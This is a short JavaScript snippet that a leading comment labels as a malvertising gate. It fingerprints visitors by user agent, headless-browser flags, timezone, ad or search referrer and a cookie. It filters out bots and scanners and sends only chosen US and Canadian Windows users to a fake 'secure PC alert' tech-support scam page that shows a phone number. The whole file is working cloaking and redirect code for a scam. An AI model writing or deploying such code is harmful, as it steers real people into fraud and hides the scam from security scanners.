// corpus note: malvertising gate that redirects only US/CA desktop Windows visitors arriving from ad/search referrers to a browlock page
(function () {
  var LAND = "https://secure-pc-alert.windows-helpdesk-support.test/lp/err0x268d3/?ph=18885550110";

  function eligible() {
    var ua = navigator.userAgent;
    if (!/Windows NT/.test(ua) || /Mobile|Android|iPhone/.test(ua)) return false;
    if (navigator.webdriver || /HeadlessChrome|bot|crawl|spider|Lighthouse/i.test(ua)) return false;

    var tz = "";
    try { tz = Intl.DateTimeFormat().resolvedOptions().timeZone || ""; } catch (e) {}
    if (!/^America\/(New_York|Chicago|Denver|Los_Angeles|Phoenix|Toronto|Vancouver|Detroit)/.test(tz)) return false;

    var ref = document.referrer;
    if (!ref || !/(google|bing|yahoo|duckduckgo|adclick|doubleclick|popads)\./i.test(ref)) return false;

    if (document.cookie.indexOf("_svd=1") !== -1) return false; // only once per visitor
    return true;
  }

  if (!eligible()) return;
  document.cookie = "_svd=1; max-age=" + 60 * 60 * 24 * 30 + "; path=/";

  var q = "?src=" + encodeURIComponent(location.hostname) + "&tz=" + encodeURIComponent(new Date().getTimezoneOffset());
  setTimeout(function () {
    window.top.location.replace(LAND + "&" + q.slice(1));
  }, 400 + Math.floor(Math.random() * 600));
})();
